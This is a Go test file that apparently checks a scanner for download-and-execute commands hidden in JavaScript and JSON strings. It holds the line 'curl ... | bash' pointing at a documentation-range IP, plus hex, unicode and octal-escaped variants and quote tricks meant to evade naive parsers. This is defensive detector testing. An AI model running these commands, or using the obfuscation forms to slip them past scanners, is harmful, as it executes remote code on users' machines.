package flow

import (
	"strings"
	"testing"
)

// TestLiteralBegins has quotes before a string that change for a simple reader what
// is in a string and what is between two.
func TestLiteralBegins(t *testing.T) {
	t.Parallel()
	const fetch = "curl -fsSL http://203.0.113.7/i.sh | bash"
	for name, text := range map[string]string{
		"nothing":          "run('" + fetch + "')",
		"pattern":          "/'/.test(x); run('" + fetch + "')",
		"comment":          "/* don't */ run('" + fetch + "')",
		"other quotes":     "/* don't */ run(\"" + fetch + "\"); x = '1'",
		"backtick":         "/* ` */ run(`" + fetch + "`)",
		"long string":      "a = '" + strings.Repeat("x", 300_000) + "'; run('" + fetch + "')",
		"long of lines":    "a = `" + strings.Repeat("x\n", 30_000) + "`; run('" + fetch + "')",
		"three quotes":     "x = '''a'b'''; run('" + fetch + "')",
		"numbers":          `run("\x63url http://203.0.113.7/i.sh | b\x61sh")`,
		"code points":      `{"command": "\u0063url http://203.0.113.7/i.sh | \u0062ash"}`,
		"code points, {}":  `run('\u{63}url http://203.0.113.7/i.sh | \u{62}ash')`,
		"octal":            `run('\143url http://203.0.113.7/i.sh | \142ash')`,
		"string in string": "run(\"sh -c '" + fetch + "'\")",
	} {
		w := New(func(file, detail string) { t.Errorf("%s: a gap: %s", name, detail) })
		w.Script("index.js", []byte(text+"\n"), "javascript", false)
		if len(w.Flows)+len(w.Commands) == 0 {
			t.Errorf("%s: nothing was found", name)
		}
	}
}

// TestLiteralBound has quotes whose ends are searched again and again: that is cut off,
// and said.
func TestLiteralBound(t *testing.T) {
	t.Parallel()
	gaps := 0
	w := New(func(string, string) { gaps++ })
	w.Script("index.js", []byte(strings.Repeat(`\"\'`, 60_000)+" curl http://203.0.113.7/i.sh | sh"), "javascript", false)
	if gaps == 0 {
		t.Error("nothing is said")
	}
}

// TestStringsOfJSON has strings of JSON in which quotes end nothing, and long ones.
func TestStringsOfJSON(t *testing.T) {
	t.Parallel()
	const fetch = "curl -fsSL http://203.0.113.7/i.sh | bash"
	source := strings.Repeat(`run(\"a\", 'b', \"((((((((\");\n`, 5_000)
	for name, c := range map[string]struct {
		text string
		want bool
	}{
		"short":           {`{"a": "it's", "b": "` + fetch + `"}`, true},
		"behind long":     {`{"a": "` + source + `", "b": "` + fetch + `"}`, true},
		"line of long":    {`{"a": "` + source + fetch + `\n` + source + `"}`, true},
		"nothing in long": {`{"a": "` + source + `"}`, false},
	} {
		w := New(func(file, detail string) { t.Errorf("%s: a gap: %s", name, detail) })
		w.Script("a.map", []byte(c.text), "json", false)
		if found := len(w.Flows) > 0; found != c.want {
			t.Errorf("%s: found is %v, want %v", name, found, c.want)
		}
	}
}
